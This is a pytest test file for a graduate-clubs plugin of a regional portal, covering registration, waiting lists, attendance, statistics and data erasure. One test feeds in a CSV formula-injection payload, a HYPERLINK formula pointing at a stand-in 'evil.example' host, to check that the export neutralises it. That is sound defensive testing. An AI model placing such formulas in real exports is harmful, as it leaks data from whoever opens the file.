"""Graduate clubs: browse, join, register, wait, cancel, organize, mark who came, figures."""
from __future__ import annotations

import csv
import io
from datetime import timedelta

from babel.dates import format_date
from icalendar import Calendar
from sqlalchemy import func, select

from plugins.graduate_clubs import clubs as rules
from plugins.graduate_clubs.models import Club, Event, Member, Registration, RegistrationStatus
from portal.app.extensions import db
from portal.kit import to_local
from portal.models import AuditEvent, ClaimedSlot, Notification
from portal.models._time import utcnow
from tests.helpers import form_errors, make_user, page_queries
from tests.plugins.graduate_clubs.conftest import add_event

BASE = "/belgorod/graduate_clubs"


def _graduates(regions, count):
    return [make_user(f"g{i}@belgorod.test", {regions["belgorod"]: ["graduate"]}, name=f"Выпускник {i}")
            for i in range(count)]


def _registration(event, user) -> Registration:
    db.session.expire_all()
    return db.session.scalar(select(Registration).where(Registration.event_id == event.id,
                                                        Registration.graduate_id == user.id))


def _seats(event) -> int:
    return db.session.scalar(select(func.count(ClaimedSlot.id)).where(
        ClaimedSlot.unit_id.in_([u.id for u in event.resource.units])))


def test_graduate_finds_joins_registers_and_sees_it(app, people, club, event):
    graduate = app.test_client().login_as(people["graduate"])
    page = graduate.get(f"{BASE}/").get_data(as_text=True)
    assert "Чаепитие" in page and "Клуб «Ориентир»" in page and "свободных мест: 2" in page
    assert graduate.post(f"{BASE}/clubs/{club.id}/join").status_code == 302
    assert db.session.scalar(select(Member.id).where(Member.user_id == people["graduate"].id)) is not None

    response = graduate.post(f"{BASE}/events/{event.id}/register")
    assert response.status_code == 302
    page = graduate.get(f"{BASE}/events/{event.id}").get_data(as_text=True)
    assert "Вы записаны. До встречи!" in page and "Вы записаны." in page
    assert _registration(event, people["graduate"]).status == RegistrationStatus.registered
    assert _seats(event) == 1

    mine = graduate.get(f"{BASE}/my").get_data(as_text=True)
    assert "Чаепитие" in mine and "есть запись" in mine and "Клуб «Ориентир»" in mine
    ics = graduate.get(f"{BASE}/events/{event.id}/calendar.ics")
    item = Calendar.from_ical(ics.data).walk("VEVENT")[0]
    assert ics.mimetype == "text/calendar"
    assert item.decoded("dtstart").replace(tzinfo=None) == event.starts_at  # stored and sent in UTC
    assert str(item.get("location")) == "Белгород, ул. Победы, 85"
    actions = {a for (a,) in db.session.execute(select(AuditEvent.action))}
    assert {"graduate_clubs.club.joined", "graduate_clubs.registration.registered"} <= actions


def test_filter_by_municipality_and_date(app, people, regions, club, event, soon):
    belgorod = regions["belgorod"]
    other = rules.add_club(belgorod, "Клуб «Перспектива»", "Старооскольский колледж", belgorod.municipalities[1].id)
    db.session.commit()
    add_event(other, soon + timedelta(days=30), title="Профессиональные пробы")
    graduate = app.test_client().login_as(people["graduate"])
    both = graduate.get(f"{BASE}/").get_data(as_text=True)
    assert "Чаепитие" in both and "Профессиональные пробы" in both
    here = graduate.get(f"{BASE}/?municipality={belgorod.municipalities[1].id}").get_data(as_text=True)
    assert "Профессиональные пробы" in here and "Чаепитие" not in here
    later = (soon + timedelta(days=5)).date().isoformat()
    partial = graduate.get(f"{BASE}/?since={later}", headers={"HX-Request": "true", "HX-Target": "listing"})
    text = partial.get_data(as_text=True)
    assert "<html" not in text and "Профессиональные пробы" in text and "Чаепитие" not in text
    partial = graduate.get(f"{BASE}/?municipality={belgorod.municipalities[1].id}",
                           headers={"HX-Request": "true", "HX-Target": "listing"}).get_data(as_text=True)
    assert "Клуб «Перспектива»" in partial and "Клуб «Ориентир»" not in partial  # the clubs follow the filter
    garbage = graduate.get(f"{BASE}/?municipality=x&since=never")
    assert garbage.status_code == 200 and "Чаепитие" in garbage.get_data(as_text=True)


def test_full_event_waiting_list_promotes_in_order(app, people, regions, club, soon):
    event = add_event(club, soon, capacity=1)
    first, second, third = _graduates(regions, 3)
    clients = {g.id: app.test_client().login_as(g) for g in (first, second, third)}
    assert clients[first.id].post(f"{BASE}/events/{event.id}/register").status_code == 302

    refused = clients[second.id].post(f"{BASE}/events/{event.id}/register")  # a stale page, no waiting asked
    assert refused.status_code == 302
    page = clients[second.id].get(f"{BASE}/events/{event.id}").get_data(as_text=True)
    assert "Мест нет: все 1 мест заняты" in page and "Встать в лист ожидания" in page
    assert _registration(event, second) is None  # nothing was written

    for graduate in (second, third):
        assert clients[graduate.id].post(f"{BASE}/events/{event.id}/register",
                                         data={"wait": "1"}).status_code == 302
    assert rules.waiting_position(_registration(event, second)) == 1
    assert rules.waiting_position(_registration(event, third)) == 2
    page = clients[third.id].get(f"{BASE}/events/{event.id}").get_data(as_text=True)
    assert "Вы в листе ожидания под номером 2." in page
    assert _seats(event) == 1

    assert clients[first.id].post(f"{BASE}/events/{event.id}/cancel").status_code == 302
    assert _registration(event, first).status == RegistrationStatus.cancelled
    assert _registration(event, second).status == RegistrationStatus.registered  # the first who waited
    assert rules.waiting_position(_registration(event, third)) == 1
    note = db.session.scalar(select(Notification).where(Notification.user_id == second.id))
    assert "Освободилось место" in note.message and "Чаепитие" in note.message
    assert db.session.scalar(select(func.count(Notification.id)).where(Notification.user_id == third.id)) == 0

    assert clients[second.id].post(f"{BASE}/events/{event.id}/cancel").status_code == 302
    assert _registration(event, third).status == RegistrationStatus.registered
    assert _seats(event) == 1
    # The one who cancelled may come back: to the end of the line.
    assert clients[first.id].post(f"{BASE}/events/{event.id}/register", data={"wait": "1"}).status_code == 302
    assert rules.waiting_position(_registration(event, first)) == 1


def test_htmx_registration_answers_with_the_box(app, people, regions, club, soon):
    event = add_event(club, soon, capacity=1)
    other = _graduates(regions, 1)[0]
    rules.register(event, other)
    db.session.commit()
    graduate = app.test_client().login_as(people["graduate"])
    answer = graduate.post(f"{BASE}/events/{event.id}/register", data={"wait": "1"},
                           headers={"HX-Request": "true", "HX-Target": "registration"})
    text = answer.get_data(as_text=True)
    assert answer.status_code == 200 and "<html" not in text
    assert "Вы в листе ожидания под номером 1" in text and "Выйти из листа ожидания" in text
    twice = graduate.post(f"{BASE}/events/{event.id}/register", data={"wait": "1"}, headers={"HX-Request": "true"})
    assert twice.status_code == 422 and "Вы уже в листе ожидания" in twice.get_data(as_text=True)


def test_refused_registrations_say_why(app, people, club, soon):
    graduate = app.test_client().login_as(people["graduate"])
    event = add_event(club, soon)
    assert graduate.post(f"{BASE}/events/{event.id}/register").status_code == 302
    twice = graduate.post(f"{BASE}/events/{event.id}/register", headers={"HX-Request": "true"})
    assert twice.status_code == 422 and "Вы уже записаны на эту встречу" in twice.get_data(as_text=True)

    closed = add_event(club, soon, title="Закрытая запись", registration_deadline=utcnow() - timedelta(hours=1))
    answer = graduate.post(f"{BASE}/events/{closed.id}/register", headers={"HX-Request": "true"})
    assert answer.status_code == 422 and "Запись закрылась" in answer.get_data(as_text=True)

    past = add_event(club, utcnow() - timedelta(days=2), title="Прошедшая")
    answer = graduate.post(f"{BASE}/events/{past.id}/register", headers={"HX-Request": "true"})
    assert answer.status_code == 422 and "уже началась" in answer.get_data(as_text=True)
    page = graduate.get(f"{BASE}/events/{past.id}").get_data(as_text=True)
    assert "Записаться" not in page and "запись закрыта" in page

    graduate.post(f"{BASE}/events/{event.id}/cancel")
    expired = graduate.post(f"{BASE}/events/{event.id}/register", csrf=False)  # back to the event, told why
    assert expired.status_code == 302 and expired.headers["Location"].endswith(f"/events/{event.id}")
    assert "Срок действия формы истёк" in graduate.get(f"{BASE}/events/{event.id}").get_data(as_text=True)
    assert _registration(event, people["graduate"]).status == RegistrationStatus.cancelled
    assert db.session.scalar(select(func.count(Registration.id))) == 1


def test_specialist_creates_a_club_volunteer_adds_an_event(app, people, regions):
    belgorod = regions["belgorod"]
    specialist = app.test_client().login_as(people["specialist"])
    form = specialist.get(f"{BASE}/clubs/new").get_data(as_text=True)
    assert people["volunteer"].name in form
    bad = specialist.post(f"{BASE}/clubs/new", data={"name": "", "host": "Колледж", "municipality": "0"})
    assert bad.status_code == 422 and form_errors(bad.get_data(as_text=True))
    assert 'value="Колледж"' in bad.get_data(as_text=True)  # the input is kept
    fields = {"name": "Клуб «Новый старт»", "host": "Белгородский строительный колледж",
              "municipality": str(belgorod.municipalities[0].id), "description": "Для студентов"}
    graduate_as_organizer = specialist.post(f"{BASE}/clubs/new", data={
        **fields, "organizers": [str(people["specialist"].id), str(people["graduate"].id)]})
    assert graduate_as_organizer.status_code == 422 and form_errors(graduate_as_organizer.get_data(as_text=True))
    response = specialist.post(f"{BASE}/clubs/new", data={
        **fields, "organizers": [str(people["specialist"].id), str(people["volunteer"].id)]})
    assert response.status_code == 302
    club = db.session.scalar(select(Club).where(Club.name == "Клуб «Новый старт»"))
    assert {o.user_id for o in club.organizers} == {people["specialist"].id, people["volunteer"].id}

    volunteer = app.test_client().login_as(people["volunteer"])
    day = (utcnow() + timedelta(days=20)).date().isoformat()
    wrong = volunteer.post(f"{BASE}/clubs/{club.id}/events/new", data={
        "title": "Мастер-класс", "starts_at": f"{day}T18:00", "ends_at": f"{day}T17:00", "capacity": "10",
        "place": ""})
    text = wrong.get_data(as_text=True)
    assert wrong.status_code == 422 and "Встреча должна закончиться позже" in text
    assert "Укажите место или ссылку" in text and 'value="Мастер-класс"' in text
    response = volunteer.post(f"{BASE}/clubs/{club.id}/events/new", data={
        "title": "Мастер-класс", "starts_at": f"{day}T18:00", "ends_at": f"{day}T20:00", "capacity": "10",
        "online_link": "https://meet.example.org/club", "volunteers_wanted": "y"})
    assert response.status_code == 302
    event = db.session.scalar(select(Event).where(Event.title == "Мастер-класс"))
    assert event.starts_at.strftime("%H:%M") == "15:00"  # 18:00 in Moscow time is stored as 15:00 UTC
    assert event.registration_deadline == event.starts_at and event.volunteers_wanted
    assert len(event.resource.units) == 10
    page = volunteer.get(f"{BASE}/events/{event.id}").get_data(as_text=True)
    assert "18:00" in page and "Нужны добровольцы" in page


def test_only_organizers_and_staff_run_a_club(app, people, regions, club, event):
    stranger = make_user("stranger@belgorod.test", {regions["belgorod"]: ["volunteer"]})
    outsider = app.test_client().login_as(stranger)
    assert outsider.get(f"{BASE}/clubs/{club.id}/edit").status_code == 403
    assert outsider.get(f"{BASE}/clubs/{club.id}/events/new").status_code == 403
    assert outsider.get(f"{BASE}/events/{event.id}/edit").status_code == 403
    page = outsider.get(f"{BASE}/events/{event.id}").get_data(as_text=True)
    assert "Записались:" not in page  # the list of people is for organizers only
    coordinator = app.test_client().login_as(people["coordinator"])
    assert coordinator.get(f"{BASE}/clubs/{club.id}/edit").status_code == 200
    volunteer = app.test_client().login_as(people["volunteer"])
    assert "Организаторы" not in volunteer.get(f"{BASE}/clubs/{club.id}/edit").get_data(as_text=True)
    response = volunteer.post(f"{BASE}/clubs/{club.id}/edit", data={
        "name": "Клуб «Ориентир»", "host": "Колледж", "municipality": "0", "organizers": [str(people["specialist"].id)]})
    assert response.status_code == 302
    db.session.expire_all()
    assert club.host == "Колледж"  # a co-organizer edits the club, but only specialists name the organizers
    assert {o.user_id for o in club.organizers} == {people["specialist"].id, people["volunteer"].id}
    coordinator.post(f"{BASE}/clubs/{club.id}/edit", data={
        "name": "Клуб «Ориентир»", "host": "Колледж", "municipality": "0", "organizers": [str(people["specialist"].id)]})
    db.session.expire_all()
    assert {o.user_id for o in club.organizers} == {people["specialist"].id}
    assert volunteer.get(f"{BASE}/clubs/{club.id}/edit").status_code == 403
    smolensk_club = rules.add_club(regions["smolensk"], "Клуб «Точка опоры»")
    db.session.commit()
    assert volunteer.get(f"{BASE}/clubs/{smolensk_club.id}").status_code == 404  # another region's club


def test_more_places_move_the_waiting_list_in_fewer_are_refused(app, people, regions, club, soon):
    event = add_event(club, soon, capacity=1)
    first, second = _graduates(regions, 2)
    rules.register(event, first)
    rules.register(event, second, wait=True)
    db.session.commit()
    specialist = app.test_client().login_as(people["specialist"])
    fields = {"title": event.title, "starts_at": "", "ends_at": "", "place": event.place}
    local = to_local(event.starts_at, event.club.region)
    fields.update(starts_at=local.strftime("%Y-%m-%dT%H:%M"),
                  ends_at=(local + timedelta(hours=2)).strftime("%Y-%m-%dT%H:%M"))
    assert specialist.post(f"{BASE}/events/{event.id}/edit", data={**fields, "capacity": "2"}).status_code == 302
    assert _registration(event, second).status == RegistrationStatus.registered
    assert db.session.scalar(select(func.count(Notification.id)).where(Notification.user_id == second.id)) == 1
    fewer = specialist.post(f"{BASE}/events/{event.id}/edit", data={**fields, "capacity": "1"})
    assert fewer.status_code == 422 and "Уже записались 2 человек" in fewer.get_data(as_text=True)
    rules.cancel(_registration(event, first))
    db.session.commit()
    assert specialist.post(f"{BASE}/events/{event.id}/edit", data={**fields, "capacity": "1"}).status_code == 302
    db.session.expire_all()
    assert event.capacity == 1 and len([u for u in event.resource.units if u.active]) == 1
    third = make_user("third@belgorod.test", {regions["belgorod"]: ["graduate"]})
    assert rules.register(event, third, wait=True).status == RegistrationStatus.waiting


def test_organizer_marks_who_came_graduate_sees_it_coordinator_counts(app, people, regions, club):
    started = (utcnow() - timedelta(hours=1)).replace(second=0, microsecond=0)
    event = add_event(club, started, capacity=3, title="Киновечер")
    came, missed = _graduates(regions, 2)
    registrations = [rules.register(event, g, now=started - timedelta(days=1)) for g in (came, missed)]
    db.session.commit()
    volunteer = app.test_client().login_as(people["volunteer"])
    page = volunteer.get(f"{BASE}/events/{event.id}").get_data(as_text=True)
    assert "Записались: 2 из 3" in page and "Отметить присутствие" in page
    answer = volunteer.post(f"{BASE}/events/{event.id}/attendance/{registrations[0].id}", data={"attended": "1"},
                            headers={"HX-Request": "true", "HX-Target": f"registration-{registrations[0].id}"})
    text = answer.get_data(as_text=True)
    assert answer.status_code == 200 and "<html" not in text and 'aria-pressed="true"' in text
    assert volunteer.post(f"{BASE}/events/{event.id}/attendance/{registrations[1].id}",
                          data={"attended": "0"}).status_code == 302
    db.session.expire_all()
    assert [r.attended for r in registrations] == [True, False]
    assert db.session.scalar(select(AuditEvent).where(AuditEvent.action == "graduate_clubs.attendance.marked",
                                                      AuditEvent.subject_id == came.id)) is not None

    mine = app.test_client().login_as(came).get(f"{BASE}/my").get_data(as_text=True)
    assert "Посещённые встречи" in mine and "Киновечер" in mine and "вы были на его встречах" in mine

    coordinator = app.test_client().login_as(people["coordinator"])
    local = to_local(event.starts_at, event.club.region)
    page = coordinator.get(f"{BASE}/stats?year={local.year}").get_data(as_text=True)
    assert "Клуб «Ориентир»" in page and "<svg" in page
    csv_text = coordinator.get(f"{BASE}/stats.csv?year={local.year}").get_data(as_text=True)
    assert f"Клуб «Ориентир»,{local.strftime('%Y-%m')},1,2,1" in csv_text


def test_attendance_waits_for_the_event(app, people, club, event):
    rules.register(event, people["graduate"])
    db.session.commit()
    registration = _registration(event, people["graduate"])
    specialist = app.test_client().login_as(people["specialist"])
    answer = specialist.post(f"{BASE}/events/{event.id}/attendance/{registration.id}", data={"attended": "1"},
                             headers={"HX-Request": "true"})
    assert answer.status_code == 422 and "когда встреча началась" in answer.get_data(as_text=True)
    assert _registration(event, people["graduate"]).attended is False


def test_club_calendar_feed_needs_its_secret(app, people, club, event):
    anonymous = app.test_client()
    feed = anonymous.get(f"{BASE}/clubs/{club.id}/calendar/{club.feed_token}.ics")
    assert feed.status_code == 200 and feed.mimetype == "text/calendar"
    assert [str(e.get("summary")) for e in Calendar.from_ical(feed.data).walk("VEVENT")] == [
        "Чаепитие · Клуб «Ориентир»"]
    assert anonymous.get(f"{BASE}/clubs/{club.id}/calendar/guess.ics").status_code == 404


def test_pages_in_english(app, people, club, event):
    graduate = make_user("en@belgorod.test", {club.region: ["graduate"]}, locale="en")
    client = app.test_client().login_as(graduate)
    page = client.get(f"{BASE}/events/{event.id}").get_data(as_text=True)
    assert "Register" in page and "Places: 2, taken: 0, waiting: 0" in page
    assert "Graduate clubs" in client.get(f"{BASE}/").get_data(as_text=True)


def test_export_and_erasure_give_the_seat_to_the_waiting_list(app, people, regions, club, soon):
    from portal.app.plugins import plugin_host

    event = add_event(club, soon, capacity=1)
    leaving, waiting = _graduates(regions, 2)
    rules.join(club, leaving)
    rules.register(event, leaving)
    rules.register(event, waiting, wait=True)
    db.session.commit()
    exported = plugin_host().hook.portal_export_person(user=leaving)
    ours = next(part for part in exported if "registrations" in part)
    assert ours["clubs_joined"] == ["Клуб «Ориентир»"] and ours["registrations"][0]["status"] == "registered"
    plugin_host().hook.portal_erase_person(user=leaving)  # no request: as `portal erase-person` calls it
    db.session.commit()
    assert _registration(event, leaving) is None
    note = db.session.scalar(select(Notification).where(Notification.user_id == waiting.id))
    local = to_local(event.starts_at, event.club.region)
    assert note.message.endswith(f"{local.day} {format_date(local, 'MMMM', locale='ru')} {local.year}, {local:%H:%M}.")
    assert _registration(event, waiting).status == RegistrationStatus.registered
    assert db.session.scalar(select(func.count(Member.id)).where(Member.user_id == leaving.id)) == 0
    assert _seats(event) == 1


def test_erasure_moves_the_waiting_in_with_the_same_trace_as_a_cancellation(app, people, regions, club, soon):
    from portal.app.plugins import plugin_host

    event = add_event(club, soon, capacity=1)
    leaving, waiting = _graduates(regions, 2)
    rules.register(event, leaving)
    rules.register(event, waiting, wait=True)
    db.session.commit()
    plugin_host().hook.portal_erase_person(user=leaving)
    db.session.commit()
    moved_in = _registration(event, waiting)
    trace = db.session.scalar(select(AuditEvent).where(AuditEvent.action == "graduate_clubs.registration.promoted"))
    assert trace is not None and trace.subject_id == waiting.id and trace.target == f"registration:{moved_in.id}"
    assert trace.region_id == regions["belgorod"].id


def test_a_club_named_like_a_formula_is_plain_text_in_the_figures_csv(app, people, regions):
    """A spreadsheet would run ``=HYPERLINK(...)`` on opening: the cell is given a leading quote mark."""
    formula = '=HYPERLINK("http://evil.example/?leak","Открыть")'
    rules.add_club(regions["belgorod"], formula)
    db.session.commit()
    coordinator = app.test_client().login_as(people["coordinator"])
    answer = coordinator.get(f"{BASE}/stats.csv")
    rows = list(csv.reader(io.StringIO(answer.get_data(as_text=True).lstrip("\ufeff"))))
    assert answer.mimetype == "text/csv" and rows[0][0] == "Клуб"
    assert {row[0] for row in rows[1:]} == {"'" + formula}


def test_the_dashboard_counts_coming_registrations_and_the_past_adds_no_statements(app, people, club, soon):
    """Past events and cancelled registrations are not counted; a graduate's history adds no statements."""
    graduate = people["graduate"]
    client = app.test_client().login_as(graduate)
    for days in (0, 3):
        rules.register(add_event(club, soon + timedelta(days=days), title=f"Встреча {days}"), graduate)
    rules.cancel(rules.register(add_event(club, soon + timedelta(days=5), title="Отменю"), graduate))
    db.session.commit()
    before = page_queries(app, client, "/belgorod/")
    assert "Встреч, на которые вы записаны: 2" in client.get("/belgorod/").get_data(as_text=True)
    for weeks in range(1, 6):  # five past events they went to
        starts = utcnow() - timedelta(weeks=weeks)
        past = add_event(club, starts, title=f"Было {weeks}", now=starts - timedelta(days=7))
        rules.register(past, graduate, now=starts - timedelta(days=1))
    db.session.commit()
    assert "Встреч, на которые вы записаны: 2" in client.get("/belgorod/").get_data(as_text=True)
    assert page_queries(app, client, "/belgorod/") == before
